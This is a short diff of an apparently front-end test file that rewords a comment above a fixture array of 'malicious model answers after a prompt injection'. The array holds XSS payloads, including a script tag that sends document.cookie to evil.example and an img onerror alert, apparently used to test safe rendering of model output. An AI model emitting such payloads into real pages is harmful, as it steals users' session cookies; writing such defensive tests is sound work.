@@ -13,7 +13,7 @@ beforeAll(async () => {
   await i18next.use(initReactI18next).init({ lng: 'en', resources: { en: { professors: locale } }, interpolation: { escapeValue: false } })
 })
 
-/** Malicious answers of a model after a prompt injection. */
+/** Malicious model answers after a prompt injection. */
 const injected = [
   '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
   '<img src=x onerror="alert(1)">',
